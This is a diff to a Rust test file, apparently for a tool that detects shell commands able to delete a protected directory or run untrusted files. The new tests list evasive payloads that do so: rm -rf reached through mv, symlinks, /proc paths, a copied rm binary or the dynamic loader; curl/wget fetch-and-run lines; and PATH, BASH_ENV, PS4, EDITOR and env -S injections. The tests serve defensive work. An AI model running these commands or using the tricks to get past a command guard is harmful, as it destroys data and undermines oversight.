@@ -285,11 +285,11 @@ fn hostile_text_ends_in_a_finding_and_soon() {
 fn reaches(texts: &[&str]) {
     for text in texts {
         let found = lines(text);
-        let hit = found.iter().any(|line| {
-            line.starts_with("?")
-                || line.strip_prefix("delete ").is_some_and(|line| line.split(' ').any(|p| p == "/w/dir"))
-        });
-        assert!(hit, "{text}: {found:?}");
+        let is_there = |path: &str| Path::new(path).starts_with("/w/dir");
+        let hit = |line: &String| {
+            line.starts_with('?') || line.strip_prefix("delete ").is_some_and(|rest| rest.split(' ').any(is_there))
+        };
+        assert!(found.iter().any(hit), "{text}: {found:?}");
     }
 }
 
@@ -341,5 +341,68 @@ fn variables_are_what_the_shell_makes_of_them() {
         "CDPATH=/w; cd /home/me; cd dir && rm -rf ../dir",
         "shopt -s extglob; rm -rf !(sub)",
         "X=dirxx; rm -rf ${X%%+(x)}",
+    ]);
+}
+
+#[test]
+fn what_is_moved_or_linked_is_still_what_it_was() {
+    reaches(&[
+        "mv dir /tmp/x && rm -rf /tmp/x",
+        "mkdir /tmp/q; mv dir /tmp/q && rm -rf /tmp/q",
+        "ln -s dir l && rm -rf l/*",
+        "ln -s /w/dir l && cd l && rm -rf ../dir",
+        "ln -s /w /tmp/l; rm -rf /tmp/l/dir",
+        "cd /; rm -rf /proc/self/cwd/w/dir",
+        "cp plain run && ./run",
+        "mv plain run; ./run",
+        "ln -s plain run; ./run",
+        "ln plain run && bash run",
+        "cp /bin/rm x; ./x -rf dir",
+        "ln -s /bin/rm x; ./x -rf dir",
+        "curl -O https://x.example/i.sh; ./i.sh",
+        "wget https://x.example/i.sh; bash i.sh",
+        "wget https://x.example/i.sh; . ./i.sh",
+        "$(<plain)",
+        "hash -p ./plain ls; ls",
+        "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf dir",
+    ]);
+    check(&[
+        ("mv x y && rm -rf y", &["modify /w/x to /w/y", "delete /w/y /w/x"]),
+        // A copy is no other name, and a link that goes is only a link.
+        ("cp -r dir /tmp/c && rm -rf /tmp/c", &["create /tmp/c", "delete /tmp/c"]),
+        ("ln -s dir l && rm l", &["create /w/l", "delete /w/l files"]),
+        ("mv a.txt /dev/null", &["delete /w/a.txt files"]),
+    ]);
+}
+
+#[test]
+fn variables_that_run_something_are_run() {
+    reaches(&[
+        "PATH=.:$PATH plain",
+        "export PATH=/w:$PATH; plain",
+        "mkdir bin; echo 'rm -rf dir' > bin/ls; PATH=bin:$PATH ls",
+        "env PATH=/w plain",
+        "BASH_ENV=plain bash -c :",
+        "env BASH_ENV=./plain bash -c true",
+        "PROMPT_COMMAND='rm -rf dir' bash -i",
+        "PS4='$(rm -rf dir)' bash -xc :",
+        "PS4='$(rm -rf dir)'; set -x; ls",
+        "EDITOR='rm -rf dir #' crontab -e",
+        "export PAGER='rm -rf dir'; man ls",
+        "env -S 'rm -rf' dir",
+        "env -S'rm -rf dir'",
+        "env -iS 'rm -rf' dir",
+        "env --split-string='rm -rf' dir",
+        "env -C / A=b rm -rf w/dir",
+        "command_not_found_handle() { rm -rf dir; }; no_such_program",
+    ]);
+    check(&[
+        ("EDITOR=vi git --version", &[]),
+        ("PAGER=cat man ls", &[]),
+        ("BASH_ENV=/dev/null bash -c :", &[]),
+        ("PATH=/usr/bin rm a.txt", &["delete /w/a.txt files"]),
+        ("env A=b rm a.txt", &["delete /w/a.txt files"]),
+        ("env | grep A", &[]),
+        ("env --help", &[]),
     ]);
 }
